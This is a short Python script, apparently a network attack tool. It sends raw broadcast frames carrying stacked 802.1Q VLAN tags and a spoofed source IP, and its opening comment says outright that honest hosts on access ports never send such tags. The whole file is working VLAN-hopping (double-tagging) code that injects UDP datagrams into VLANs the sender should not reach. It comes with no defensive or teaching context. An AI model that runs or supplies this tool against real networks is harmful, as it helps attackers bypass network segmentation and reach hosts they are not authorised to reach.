# Sends datagrams by broadcast from the card, with VLAN tags that an honest machine on an access port never sends: TAGS TEXT ...
import socket, struct, sys

card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
card.bind(("card", 0))
for tags, text in zip(sys.argv[1::2], sys.argv[2::2]):
    udp = struct.pack(">HHHH", 9999, 9999, 8 + len(text), 0) + text.encode()
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes([10, 200, 0, 77]), b"\xff" * 4)
    total = sum(struct.unpack(">10H", ip))
    total = (total >> 16) + (total & 0xFFFF)
    ip = ip[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + ip[12:]
    tagged = b"".join(struct.pack(">HH", 0x8100, int(t)) for t in tags.split(",") if t)
    card.send(b"\xff" * 6 + card.getsockname()[4] + tagged + b"\x08\0" + ip + udp)
